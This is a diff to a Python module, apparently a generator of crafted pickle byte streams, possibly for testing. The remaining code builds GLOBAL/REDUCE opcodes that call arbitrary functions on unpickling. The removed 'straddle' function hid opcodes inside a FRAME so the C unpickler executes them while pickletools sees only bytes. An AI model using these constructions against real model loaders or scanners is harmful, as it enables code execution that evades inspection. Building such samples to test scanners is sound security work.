@@ -13,7 +13,6 @@ import pickle
 import re
 import resource
 import signal
-import struct
 import subprocess
 import sys
 import zipfile
@@ -154,14 +153,6 @@ def value(anything):
 def call(function, *arguments):
     """The result of a function call, by GLOBAL and REDUCE."""
     return b"c" + function.replace(" ", "\n").encode() + b"\n(" + b"".join(arguments) + b"tR"
-
-
-def straddle(piece):
-    """A FRAME that ends inside a text. The C unpickler drops the rest of the frame, and takes the text from after it:
-    then it reads this piece of pickle as opcodes, and pickletools as bytes."""
-    hidden = (b"0" + piece + b".").ljust(2**20) # 2**20 is also a length whose bytes are ASCII
-    rest = b"a" + b"N0" * 29 + b"B" + struct.pack("<I", len(hidden)) # 64 bytes after the frame
-    return b"\x95" + struct.pack("<Q", 68) + b"X" + struct.pack("<I", 64) + b"a" * 63 + rest + hidden + b"\x86"
 
 
 def tensor(size, stride=None, offset=0, key="0", kind="torch FloatStorage"):
